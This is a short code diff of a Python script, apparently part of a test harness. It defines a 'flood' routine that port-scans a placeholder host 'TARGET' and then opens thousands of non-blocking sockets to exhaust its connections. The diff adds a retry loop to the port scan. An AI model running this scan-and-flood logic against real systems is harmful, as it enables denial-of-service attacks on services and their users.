@@ -113,7 +113,8 @@ resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
 program = sys.stdin.buffer.read(int(re.search("read.([0-9]+)", arguments[2])[1])).decode()
 def flood():
     address, one, held = socket.gethostbyname("TARGET"), socket.socket(), []
-    port = next(port for port in range(1024, 65536) if not one.connect_ex((address, port)))
+    # The other program may not listen yet.
+    port = next(port for _ in range(20) for port in range(1024, 65536) if not one.connect_ex((address, port)))
     for number in range(2400):
         one = socket.socket()
         one.setblocking(False)
